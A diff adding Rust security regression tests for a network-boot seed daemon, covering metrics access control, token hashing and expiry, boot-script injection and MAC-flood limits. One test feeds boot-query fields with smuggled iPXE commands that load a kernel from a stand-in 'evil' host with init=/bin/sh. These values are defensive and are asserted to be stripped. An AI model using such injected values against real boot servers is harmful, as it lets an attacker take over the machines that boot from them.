@@ -1,0 +1,143 @@
+//! Known holes of the field (PEERS.md), each shut by a test of its number. Others stand beside the code they are about.
+
+use std::net::IpAddr;
+use std::sync::Arc;
+
+use camino::Utf8PathBuf;
+use cluster_seed::cluster::ClusterSpec;
+use cluster_seed::ids::{Digest, Mac};
+use seedd::app::metrics::{MetricsToken, TOKEN};
+use seedd::app::{App, Seed, now, now_ms};
+use seedd::recorder::WireEvent;
+use seedd::site::{Site, default_cluster_yaml};
+use web::api::{ApiError, BootQuery, SeedApi as _};
+
+struct Bench {
+    dir: tempfile::TempDir,
+    app: Arc<App>,
+}
+
+fn bench() -> Bench {
+    let dir = tempfile::tempdir().unwrap();
+    let site = Site::new(&Utf8PathBuf::from_path_buf(dir.path().join("site")).unwrap());
+    site.make_folders().unwrap();
+    let text = default_cluster_yaml("site-a");
+    let planes: Vec<String> = ClusterSpec::parse(&text).unwrap().spec.networking.planes.keys().cloned().collect();
+    site.keys().create("correct horse battery", "site-a", &planes, 1_760_000_000).unwrap();
+    std::fs::write(site.cluster_file(), text).unwrap();
+    drop(seedd::store::Store::open(&site.database()).unwrap());
+    let app = App::open(site, "10.44.0.1:80".parse().unwrap()).unwrap();
+    Bench { dir, app: Arc::new(app) }
+}
+
+fn mac(n: u32) -> Mac {
+    let [a, b, c, d] = n.to_be_bytes();
+    Mac([0x52, 0x54, a, b, c, d])
+}
+
+/// 12: nothing about the site without a right to it; the metrics' own right opens nothing else.
+#[test]
+fn hole_12_metrics_are_for_this_machine_the_planes_and_their_token() {
+    let b = bench();
+    let seed = Seed(b.app.clone());
+    let plane = b.app.spec.spec.networking.planes.values().next().unwrap().value.cidr;
+    let ip = |text: &str| text.parse::<IpAddr>().unwrap();
+    let node = IpAddr::from(plane.hosts().nth(5).unwrap());
+    for (from, may) in [
+        (ip("127.0.0.1"), true),
+        (ip("::1"), true),
+        (node, true),
+        (ip("10.44.0.100"), false),
+        (ip("192.0.2.1"), false),
+        (ip("fd00::1"), false),
+        (ip("0.0.0.0"), false),
+    ] {
+        assert_eq!(seed.metrics(from, None).is_ok(), may, "{from}");
+        assert_eq!(seed.metrics(from, Some("kdm-guess")).is_ok(), may, "{from} with a guess");
+    }
+    let text = seed.metrics(ip("127.0.0.1"), None).unwrap();
+    assert!(text.contains("kubedos_sealed 1") && text.contains("kubedos_setup_needed 1"));
+    assert!(!text.contains(b.app.setup_code().unwrap().as_str()), "no secret is a label");
+}
+
+/// 20: tokens are shown once, hashed at rest, scoped, expiring.
+#[test]
+fn hole_20_the_metrics_token_is_hashed_scoped_and_ends() {
+    let b = bench();
+    let seed = Seed(b.app.clone());
+    let stranger: IpAddr = "192.0.2.1".parse().unwrap();
+    let token = "kdm-0123456789abcdef0123456789abcdef";
+    let keep = |expires| {
+        let kept = MetricsToken { sha256: Digest::of(token.as_bytes()), expires };
+        b.app.store.set(TOKEN, &serde_json::to_string(&kept).unwrap()).unwrap();
+    };
+    keep(now() + 3_600);
+    assert!(seed.metrics(stranger, Some(token)).is_ok());
+    assert!(matches!(seed.metrics(stranger, Some(&token[..35])), Err(ApiError::Forbidden { .. })));
+    assert_eq!(seed.session(token).unwrap(), None, "it is no session");
+    keep(now());
+    assert!(seed.metrics(stranger, Some(token)).is_err(), "its time is over");
+    keep(now() + 3_600);
+    b.app.store.write(|tx| tx.unset(TOKEN)).unwrap();
+    assert!(seed.metrics(stranger, Some(token)).is_err(), "taken away");
+    for entry in std::fs::read_dir(b.dir.path().join("site")).unwrap() {
+        let path = entry.unwrap().path();
+        let bytes = if path.is_file() { std::fs::read(&path).unwrap() } else { Vec::new() };
+        assert!(!bytes.windows(token.len()).any(|w| w == token.as_bytes()), "{} holds it", path.display());
+    }
+}
+
+/// 9: no text from a machine adds a token or a line to a boot script, nor to the log's row about it.
+#[test]
+fn hole_09_a_boot_script_holds_nothing_that_a_machine_said() {
+    let b = bench();
+    let seed = Seed(b.app.clone());
+    let from: IpAddr = "10.44.0.100".parse().unwrap();
+    let plain = BootQuery { mac: Some(mac(1).to_string()), ..BootQuery::default() };
+    let evil = BootQuery {
+        arch: Some("x64\nkernel http://evil/ init=/bin/sh\u{202e}".into()),
+        uuid: Some("\"; boot http://evil".into()),
+        ..plain.clone()
+    };
+    for query in [&plain, &evil] {
+        let script = seed.boot_script(from, query).unwrap();
+        assert!(script.starts_with("#!ipxe") && !script.contains("evil") && !script.contains("init="), "{script}");
+    }
+    let rows = b.app.store.read(|tx| tx.events_after(0, 100)).unwrap();
+    let told = rows.iter().filter(|e| e.kind == "boot.script").map(|e| e.facts.clone().unwrap());
+    assert!(told.clone().count() > 0);
+    assert!(told.filter_map(|f| f.arch).all(|a| a.chars().all(|c| c.is_ascii_graphic()) && a.len() <= 16));
+    let bad = BootQuery { mac: Some("52:54:00:00:00:01\nboot".into()), ..BootQuery::default() };
+    assert!(seed.boot_script(from, &bad).is_err());
+}
+
+/// 19: a flood of random MAC addresses, on the wire and by HTTP, neither fills the disk nor hides a machine.
+#[test]
+fn hole_19_a_flood_of_made_up_machines_is_bounded_and_hides_nobody() {
+    let b = bench();
+    let seed = Seed(b.app.clone());
+    let from: IpAddr = "10.44.0.100".parse().unwrap();
+    let held = WireEvent {
+        text: "has an address".into(),
+        mac: Some(mac(0)),
+        ip: Some("10.44.0.150".parse().unwrap()),
+        ..WireEvent::new(now_ms(), "dhcp.ack")
+    };
+    b.app.record(held);
+    let flood =
+        (1..=50_000).map(|n| WireEvent { text: "asks".into(), mac: Some(mac(n)), ..WireEvent::new(now_ms(), "dhcp.discover") });
+    let events = b.app.flight.pass(flood.collect());
+    b.app.write_wire(&events);
+    for n in 60_000..62_000 {
+        let query = BootQuery { mac: Some(mac(n).to_string()), ..BootQuery::default() };
+        seed.boot_script(from, &query).unwrap();
+    }
+    let real = WireEvent { text: "asks again".into(), mac: Some(mac(0)), ..WireEvent::new(now_ms(), "dhcp.request") };
+    b.app.record(real);
+    let rows = b.app.store.read(|tx| tx.events_after(0, 10_000)).unwrap();
+    assert!(rows.len() < 1_000, "{} rows", rows.len());
+    assert_eq!(rows.iter().filter(|e| e.text == "asks again").count(), 1);
+    assert!(b.app.view_machines().unwrap().len() < 1_000);
+    assert_eq!(b.app.store.read(|tx| tx.broken_event()).unwrap(), None);
+    assert!(seed.metrics("127.0.0.1".parse().unwrap(), None).unwrap().contains("kubedos_recorder_suppressed_events_total"));
+}
